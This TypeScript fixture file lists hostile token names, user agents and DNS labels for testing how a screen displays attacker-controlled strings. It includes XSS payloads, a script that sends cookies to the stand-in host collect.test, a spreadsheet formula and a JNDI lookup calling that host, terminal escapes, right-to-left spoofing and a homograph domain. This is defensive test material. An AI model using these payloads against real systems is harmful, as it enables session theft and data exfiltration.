/**
 * Strings that somebody else chose and that a careless screen would obey: markup, right-to-left
 * overrides, terminal escapes, spreadsheet formulas. Names and user agents are attacker-controlled in
 * every audit log, so the stand-in has some of them from the start.
 */

/** Token names nobody should trust. */
export const hostileTokenNames: readonly string[] = [
  '<img src=x onerror=alert(document.domain)>',
  'deploy\u202Egnp.tpircs',
  '=HYPERLINK("https://collect.test/?"&A1,"renew")',
]

/** User agents nobody should trust. */
export const hostileUserAgents: readonly string[] = [
  '"><script>fetch("https://collect.test/"+document.cookie)</script>',
  'curl/8.7.1 \u001b]0;owned\u0007\u001b[31m',
  '\u0024{jndi:ldap://collect.test/a}',
]

/** DNS labels nobody should trust; the API takes them in TXT and in proxied names alike. */
export const hostileRecordNames: readonly string[] = [
  '<svg/onload=alert(1)>',
  'login\u202Emoc.knab',
  'xn--80ak6aa92e',
]
